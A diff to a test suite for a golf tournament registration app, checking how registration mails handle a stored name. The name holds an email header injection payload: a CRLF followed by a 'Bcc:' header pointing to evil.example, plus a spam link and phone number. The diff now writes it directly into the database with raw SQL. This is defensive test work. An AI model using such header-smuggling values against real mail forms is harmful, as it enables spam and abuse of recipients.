@@ -406,10 +406,14 @@ describe("into the dev inbox", () => {
       const golfer = await createUser(backend, {
         email: "named@victim.example",
       });
-      await register(backend, golfer, {
-        full_name:
-          "Asha\r\nBcc: x@evil.example https://evil.example/a Call +91 98450 0000000 now",
-      });
+      await register(backend, golfer);
+      // From before such names were refused.
+      const name = String.raw`E'Asha\r\nBcc: x@evil.example https://evil.example/a Call +91 98450 0000000 now'`;
+      for (const table of ["tournament_registrations", "registration_mails"]) {
+        await backend.sql(
+          `update public.${table} set full_name = ${name} where user_id = '${golfer.id}'`,
+        );
+      }
       await sendAs(backend, golfer.accessToken);
       await expect
         .poll(() => backend.mailsTo("named@victim.example"))
